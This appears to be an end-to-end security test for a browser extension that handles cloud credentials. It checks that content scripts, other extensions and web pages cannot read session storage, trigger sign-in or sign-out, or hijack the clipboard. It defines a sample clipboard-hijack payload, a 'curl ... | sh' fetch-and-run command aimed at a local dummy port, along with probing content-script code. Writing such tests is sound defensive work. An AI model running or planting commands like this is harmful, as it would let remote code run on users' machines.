/**
 * Others trying to reach the extension in real Chromium, while the user is signed in:
 * - a content script running under the extension's own id on a web page (what a future content
 *   script, or a compromised one, could do): it may neither read session storage nor get the
 *   background to act, since the background answers only the extension's own pages, nor write
 *   the clipboard through the offscreen clipboard document, which answers only the background;
 * - another extension messaging ours: nothing listens for it (no `externally_connectable`);
 * - a web page: it has no channel to the extension and cannot load its pages.
 *
 * The extension under test is the built one plus a test-only content script, in a copy.
 */
import { cp, mkdtemp, readFile, rm, writeFile } from 'node:fs/promises';
import { createServer } from 'node:http';
import type { Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { tmpdir } from 'node:os';
import path from 'node:path';
import type { Worker } from 'playwright-core';
import { pressBrowserShortcut } from './support/browser-ui';
import { DEFAULT_EXTENSION_DIR, EXTENSION_ID, EXTENSION_ORIGIN, startEnvironment } from './support/harness';
import type { Environment } from './support/harness';

jest.setTimeout(180_000);

/** What a hijacked clipboard would paste into the user's terminal. */
const attackerText = 'curl -s http://127.0.0.1:9/x | sh';

/** Runs in the content script's isolated world and leaves its findings on the page's root element. */
const contentScript = `(async () => {
  const out = {};
  try { out.session = await chrome.storage.session.get(null); } catch (error) { out.sessionError = error.message; }
  try { out.signOut = await chrome.runtime.sendMessage({ action: 'signOut', payload: {} }); } catch (error) { out.signOutError = error.message; }
  try { out.signIn = await chrome.runtime.sendMessage({ action: 'signIn', payload: { providerId: 'sandbox' } }); } catch (error) { out.signInError = error.message; }
  try { out.clipboard = await chrome.runtime.sendMessage({ target: 'offscreen-clipboard', text: ${JSON.stringify(attackerText)}, clearAfterSeconds: 0 }); } catch (error) { out.clipboardError = error.message; }
  document.documentElement.dataset.attack = JSON.stringify(out);
})();
`;

const page = `<!doctype html><meta charset="utf-8"><title>Some web page</title><p>hello</p>`;

let env: Environment;
let work: string;
let site: Server;
let siteUrl: string;
let clipboardBefore = '';

beforeAll(async () => {
  work = await mkdtemp(path.join(tmpdir(), `wic-e2e-${process.pid}-attack-`));
  const extension = path.join(work, 'extension');
  await cp(DEFAULT_EXTENSION_DIR, extension, { recursive: true });
  const manifest = JSON.parse(await readFile(path.join(extension, 'manifest.json'), 'utf8')) as Record<string, unknown>;
  manifest.content_scripts = [{ matches: ['http://127.0.0.1/*'], js: ['attack-content.js'], run_at: 'document_idle' }];
  await writeFile(path.join(extension, 'manifest.json'), JSON.stringify(manifest));
  await writeFile(path.join(extension, 'attack-content.js'), contentScript);

  const intruder = path.join(work, 'intruder');
  await cp(path.join(DEFAULT_EXTENSION_DIR, 'icons'), path.join(intruder, 'icons'), { recursive: true });
  await writeFile(path.join(intruder, 'manifest.json'), JSON.stringify({ manifest_version: 3, name: 'Intruder', version: '1.0', background: { service_worker: 'intruder.js' } }));
  await writeFile(path.join(intruder, 'intruder.js'), 'chrome.runtime.onInstalled.addListener(() => undefined);\n');

  site = createServer((_request, response) => response.writeHead(200, { 'content-type': 'text/html' }).end(page));
  await new Promise<void>((resolve) => site.listen(0, '127.0.0.1', resolve));
  siteUrl = `http://127.0.0.1:${(site.address() as AddressInfo).port}/`;

  env = await startEnvironment({ extensionDir: extension, extraExtensionDirs: [intruder], localConfig: 'sandbox' });
  const popup = await env.openPopup();
  const authWindow = env.waitForAuthWindow();
  await popup.getByRole('button', { name: 'Sign in' }).click();
  await env.loginOnIdp(await authWindow, 'mallory-victim');
  await popup.getByRole('article', { name: 'Sandbox developer' }).getByRole('status').filter({ hasText: /^Valid/ }).waitFor({ timeout: 60_000 });
  // The keyboard shortcut copies through the offscreen document, which stays open for the attack.
  await pressBrowserShortcut(popup, ['Alt', 'Shift'], 'K');
  const deadline = Date.now() + 30_000;
  while (!(clipboardBefore = await env.readClipboard()).includes('AWS_ACCESS_KEY_ID') && Date.now() < deadline) await new Promise((resolve) => setTimeout(resolve, 250));
  expect(clipboardBefore).toContain('AWS_ACCESS_KEY_ID');
  await popup.close();
});

afterAll(async () => {
  await env?.close();
  await new Promise((resolve) => site?.close(resolve));
  if (work) await rm(work, { recursive: true, force: true });
});

const sessionKeys = async () => Object.keys(await env.readStorage('session')).sort();

describe('a content script of the extension on a web page', () => {
  let findings: Record<string, unknown>;
  let before: string[];
  beforeAll(async () => {
    before = await sessionKeys();
    const tab = await env.context.newPage();
    await tab.goto(siteUrl);
    await tab.waitForFunction(() => document.documentElement.dataset.attack !== undefined, null, { timeout: 30_000 });
    findings = JSON.parse((await tab.evaluate(() => document.documentElement.dataset.attack)) ?? '{}') as Record<string, unknown>;
    await tab.close();
  });

  it('cannot read session storage', () => {
    expect(findings.session).toBeUndefined();
    expect(findings.sessionError).toMatch(/not allowed|access/i);
  });

  it('gets no action performed by the background', async () => {
    expect(findings.signOut).toEqual({ ok: false, error: { code: 'FORBIDDEN_SENDER', message: 'Not accepted from this sender.' } });
    expect(findings.signIn).toEqual({ ok: false, error: { code: 'FORBIDDEN_SENDER', message: 'Not accepted from this sender.' } });
    expect(await sessionKeys()).toEqual(before);
    expect(before).toEqual(expect.arrayContaining(['credentials/dev', 'provider-session/sandbox']));
  });

  it('cannot put text on the clipboard through the offscreen document', async () => {
    expect(findings.clipboard).toEqual({ ok: false, error: { code: 'FORBIDDEN_SENDER', message: 'Not accepted from this sender.' } });
    // A request from the background reaches the document after the script's did, so once the
    // document has answered it, the script's request has had its chance.
    const answer = await (await env.getWorker()).evaluate(async () => {
      const { chrome } = globalThis as unknown as { chrome: { runtime: { sendMessage(message: unknown): Promise<unknown> } } };
      return chrome.runtime.sendMessage({ target: 'offscreen-clipboard', clearAfterSeconds: 0 });
    });
    expect(answer).toEqual({ ok: true });
    await expect(env.readClipboard()).resolves.toBe(clipboardBefore);
  });
});

describe('another extension', () => {
  let intruder: Worker;
  beforeAll(async () => {
    const isIntruder = (worker: Worker) => worker.url().startsWith('chrome-extension://') && !worker.url().startsWith(`${EXTENSION_ORIGIN}/`);
    intruder = env.context.serviceWorkers().find(isIntruder) ?? await env.context.waitForEvent('serviceworker', { predicate: isIntruder, timeout: 15_000 });
  });

  it('finds no one listening when it messages the extension', async () => {
    const before = await sessionKeys();
    const outcome = await intruder.evaluate(async (id) => {
      const { chrome } = globalThis as unknown as { chrome: { runtime: { sendMessage(id: string, message: unknown): Promise<unknown> } } };
      try {
        return { reply: await chrome.runtime.sendMessage(id, { action: 'signOut', payload: {} }) };
      } catch (error) {
        return { error: (error as Error).message };
      }
    }, EXTENSION_ID);
    expect(outcome).toEqual({ error: expect.stringMatching(/Receiving end does not exist|Could not establish connection/) });
    expect(await sessionKeys()).toEqual(before);
  });

  it('cannot load the extension\'s pages or files', async () => {
    const outcome = await intruder.evaluate(async (origin) => {
      try {
        const response = await fetch(`${origin}/popup.html`);
        return { status: response.status };
      } catch (error) {
        return { error: (error as Error).message };
      }
    }, EXTENSION_ORIGIN);
    expect(outcome).toEqual({ error: expect.any(String) });
  });
});

describe('a web page', () => {
  it('has no runtime channel to the extension and cannot load its files', async () => {
    const tab = await env.context.newPage();
    await tab.goto(siteUrl);
    const outcome = await tab.evaluate(async (origin) => {
      const runtime = (globalThis as unknown as { chrome?: { runtime?: { sendMessage?: unknown } } }).chrome?.runtime;
      let fetched: string;
      try {
        fetched = `status ${(await fetch(`${origin}/manifest.json`)).status}`;
      } catch (error) {
        fetched = `error ${(error as Error).name}`;
      }
      return { sendMessage: typeof runtime?.sendMessage, fetched };
    }, EXTENSION_ORIGIN);
    await tab.close();
    expect(outcome).toEqual({ sendMessage: 'undefined', fetched: 'error TypeError' });
  });
});
